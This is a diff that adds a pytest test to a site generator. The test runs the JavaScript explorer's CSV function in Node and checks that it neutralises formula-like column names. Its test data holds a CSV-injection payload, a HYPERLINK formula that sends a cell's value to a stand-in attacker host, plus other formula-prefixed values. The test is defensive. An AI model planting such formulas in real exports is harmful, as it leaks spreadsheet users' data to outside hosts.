@@ -626,3 +626,29 @@ def test_a_null_yaml_key_is_named_as_written(data, line, shown):
     unknown = only(findings, "clave_desconocida")
     assert unknown.column == shown and unknown.row == 18
     assert "None" not in unknown.describe()
+
+
+def _explorer_function(name: str) -> str:
+    """The source of one top-level function of explorador.js (it ends at the first line that is «}»)."""
+    source = (Path(__file__).parents[1] / "site_src" / "assets" / "js" / "explorador.js").read_text(encoding="utf-8")
+    start = source.index(f"function {name}(")
+    return source[start:source.index("\n}\n", start) + 2]
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="needs Node.js to run the explorer's function")
+def test_the_explorers_csv_quotes_and_neutralises_column_names_like_metas_csv():
+    import csv
+    import io
+    import json
+    import subprocess
+
+    from generator import exports
+
+    names = ['nota","=HYPERLINK(""http://evil.example/""&A2,""clic"")","fin', "=SUMA(1;2)", "@x", "descripcion"]
+    record = {name: f"v{i}" for i, name in enumerate(names)} | {"descripcion": '=1+"2"'}
+    formula = "^[" + re.escape("".join(exports.FORMULA_STARTS)) + "]"  # the rule explorer.py gives the page
+    script = _explorer_function("fullCsv") + f"\nprocess.stdout.write(fullCsv([{json.dumps(record)}], new RegExp({json.dumps(formula)})));\n"
+    written = subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True).stdout
+    rows = list(csv.reader(io.StringIO(written.lstrip("\ufeff"), newline="")))
+    assert rows[0] == [exports.neutralise(name) for name in names]  # one cell per column, as the site's CSV
+    assert rows[1] == [exports.neutralise(record[name]) for name in names]
